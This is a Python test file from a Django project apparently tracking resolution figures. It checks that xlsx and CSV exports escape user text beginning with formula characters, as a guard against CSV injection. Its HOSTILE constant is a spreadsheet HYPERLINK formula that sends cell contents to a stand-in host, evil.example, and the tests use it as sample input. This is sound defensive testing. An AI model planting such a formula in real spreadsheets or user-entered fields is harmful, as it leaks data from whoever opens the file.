"""Exports never carry formulas (issue 10, item 3): every xlsx/CSV writer escapes user text
that starts with =, +, -, @, a tab or a carriage return (OWASP CSV injection)."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from nghiquyet.documents import build_xlsx, sample_report_data
from nghiquyet.figures import services
from nghiquyet.figures.periods import parse_period
from nghiquyet.lib.spreadsheet import FORMULA_TRIGGERS, csv_safe, csv_unescape, save_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def _formula_cells(data: bytes) -> list[str]:
    """Cells an xlsx would evaluate: <f> elements, or t="str"/formula types."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode()
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


def _assert_xlsx_safe(data: bytes, text: str) -> None:
    assert not _formula_cells(data)
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    assert cells, "the hostile text is kept as it was written"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def _assert_csv_safe(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)), cell
    assert any(cell == "'" + HOSTILE for row in rows for cell in row)


def _is_number(text: str) -> bool:
    return text.lstrip("-").replace(".", "").replace(",", "").isdigit()


@pytest.fixture
def hostile_note(assigned: Any, series: Any, tree: Any) -> Any:
    """A village reporter's note that is a formula."""
    return services.value_save(actor=assigned["bob"], series=series["grain"],
                               orgunit=tree["villages"][0], period=parse_period("2026"),
                               value=Decimal("5"), note=HOSTILE).value


@pytest.mark.django_db
def test_officer_template_xlsx_and_csv(client: Any, assigned: Any, resolution: Any,
                                       hostile_note: Any) -> None:
    client.force_login(assigned["olga"])
    url = f"/resolutions/{resolution.pk}/exchange/?download=1&unit=SL-PK&period=2026&subunits=1"
    response = client.get(url)
    assert response.status_code == 200
    _assert_xlsx_safe(response.content, HOSTILE)
    response = client.get(url + "&format=csv")
    assert response.status_code == 200
    _assert_csv_safe(response.content)


@pytest.mark.django_db
def test_export_values_command(tmp_path: Path, resolution: Any, hostile_note: Any) -> None:
    call_command("export_values", str(resolution.pk), "-o", str(tmp_path / "v.xlsx"))
    _assert_xlsx_safe((tmp_path / "v.xlsx").read_bytes(), HOSTILE)
    call_command("export_values", str(resolution.pk), "-o", str(tmp_path / "v.csv"))
    _assert_csv_safe((tmp_path / "v.csv").read_bytes())


def test_report_annex_registry_text() -> None:
    data = sample_report_data()
    group = data.groups[0]
    first = dataclasses.replace(group.indicators[0], text=HOSTILE)
    data = dataclasses.replace(data, groups=[
        dataclasses.replace(group, indicators=[first, *group.indicators[1:]]),
        *data.groups[1:]])
    _assert_xlsx_safe(build_xlsx(data), HOSTILE)


@given(st.text(min_size=1, max_size=40))
def test_any_text_round_trips_and_is_never_a_formula(text: str) -> None:
    escaped = csv_safe(text)
    assert isinstance(escaped, str)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert csv_unescape(escaped) == text or text.startswith("'")


@settings(deadline=None)  # writing a workbook is slow on a busy machine
@given(st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=20).filter(
    lambda t: all(ord(c) >= 32 or c in "\t\r\n" for c in t) and "\r" not in t))
def test_any_formula_like_cell_is_text_in_xlsx(trigger: str, rest: str) -> None:
    wb = Workbook()
    wb.active.append([trigger + rest])
    data = save_workbook(wb)
    assert not _formula_cells(data)
    cell = load_workbook(io.BytesIO(data)).active["A1"]
    assert cell.data_type == "s" and cell.quotePrefix
